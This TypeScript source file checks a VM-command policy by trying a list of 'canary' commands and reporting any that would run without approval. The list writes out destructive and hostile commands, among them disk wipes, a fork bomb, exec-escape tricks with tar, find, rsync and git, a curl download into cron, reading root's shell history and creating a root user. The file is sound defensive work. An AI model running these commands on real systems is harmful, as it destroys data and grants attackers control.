import { findBuiltInDenial } from './built-in-denial.ts';
import { localPrincipal } from '../domain/principal.ts';
import { compilePolicy } from './compile-policy.ts';
import type { Policy } from './compile-policy.ts';
import { decideCommand } from './decide-command.ts';
import type { Finding } from './finding.ts';
import type { PolicyRequest } from './request.ts';

/** Commands that no sane policy lets pass without a question. The first group meets the built-in denials. */
const CANARIES: readonly { readonly argv: readonly string[]; readonly danger: string }[] = [
  { argv: ['rm', '-rf', '/'], danger: 'removes all files' },
  { argv: ['rm', '-fr', '--no-preserve-root', '/'], danger: 'removes all files' },
  { argv: ['rm', '--recursive', '--force', '/home'], danger: 'removes all files of users' },
  { argv: ['sh', '-c', 'rm -rf /'], danger: 'removes all files' },
  { argv: ['sh', '-c', ':(){ :|:& };:'], danger: 'is a fork bomb' },
  { argv: ['mkfs.ext4', '/dev/sda1'], danger: 'overwrites a file system' },
  { argv: ['dd', 'if=/dev/zero', 'of=/dev/sda'], danger: 'overwrites a disk' },
  { argv: ['shutdown', '-h', 'now'], danger: 'stops the guest' },
  { argv: ['systemctl', 'reboot'], danger: 'restarts the guest' },
  { argv: ['bash', '-c', 'id'], danger: 'is a shell, which runs anything' },
  { argv: ['python3', '-c', 'print(1)'], danger: 'is an interpreter, which runs anything' },
  { argv: ['sudo', 'id'], danger: 'runs anything as another user' },
  { argv: ['find', '/', '-exec', 'id', '+'], danger: 'runs anything' },
  {
    argv: ['tar', '-cf', '/dev/null', '/etc/hostname', '--checkpoint=1', '--checkpoint-action=exec=id'],
    danger: 'runs anything',
  },
  { argv: ['rsync', '-e', 'id', 'a:b', '.'], danger: 'runs anything' },
  { argv: ['git', '-c', 'core.pager=id', '-p', 'log'], danger: 'runs anything' },
  { argv: ['curl', '-o', '/etc/cron.d/x', 'http://example.invalid/x'], danger: 'writes any file from the network' },
  { argv: ['cat', '/root/.bash_history'], danger: 'shows what others have typed, passwords included' },
  { argv: ['useradd', '-o', '-u', '0', 'x'], danger: 'makes an administrator' },
  { argv: ['chmod', 'u+s', '/bin/cp'], danger: 'makes any user an administrator' },
];

/**
 * Tries the canaries at start, as the local user on a guest of which all facts are known. One finding per canary that would
 * run without a question, and one per deny pattern or built-in denial that does not do what its name says.
 */
export function checkCanaries(policy: Policy): readonly Finding[] {
  const findings: Finding[] = [];
  for (const { argv, danger } of CANARIES) {
    const verdict = decideCommand(callOf(argv), policy);
    if (verdict.effect !== 'allow') continue;
    findings.push({
      path:
        verdict.rules?.[0] !== undefined
          ? `policy.commands.rules (${verdict.rules[0]})`
          : verdict.cause === 'allow-pattern'
            ? allowingPattern(argv, policy)
            : 'policy.commands.mode',
      weaker_than_default: true,
      message: `The command ${JSON.stringify(argv.join(' '))} would run without a question; it ${danger}.`,
      how_to_mend: 'Narrow the rule to the arguments that are needed, or set its effect to ask.',
    });
  }
  for (const name of policy.section.commands.without_built_in_denials) {
    findings.push({
      path: 'policy.commands.without_built_in_denials',
      weaker_than_default: true,
      message: `The built-in denial ${name} is given up.`,
      how_to_mend: 'Remove it from the list, and allow what is needed by a rule with effect ask.',
    });
  }
  if (CANARIES.slice(0, 9).some(({ argv }) => findBuiltInDenial(argv) === undefined))
    throw new TypeError('A built-in denial does not meet its canary.');
  return findings;
}

function allowingPattern(argv: readonly string[], policy: Policy): string {
  const patterns = policy.section.commands.allow_patterns;
  const index = patterns.findIndex((pattern) => {
    const alone = compilePolicy({
      ...policy.section,
      commands: { ...policy.section.commands, rules: [], allow_patterns: [pattern] },
    });
    return decideCommand(callOf(argv), alone).effect === 'allow';
  });
  return `policy.commands.allow_patterns[${index}]`;
}

function callOf(command: readonly string[]): PolicyRequest {
  return {
    operation: { name: 'execute_vm_command', toolset: 'vms', risk: 'execute', takesCommand: true },
    principal: localPrincipal('mcp-stdio'),
    targets: [
      {
        kind: 'guest',
        vmid: 100,
        node: 'canary',
        guestType: 'qemu',
        tags: [],
        pool: null,
        template: false,
        protected: false,
      },
    ],
    usage: { writesLastHour: 0, destroyedLastHour: 0, destroyedLastDay: 0 },
    untrustedTextRead: false,
    canAskCaller: false,
    command,
    approvalToken: { given: true, opensCommands: true, opensHighRisk: true },
  };
}
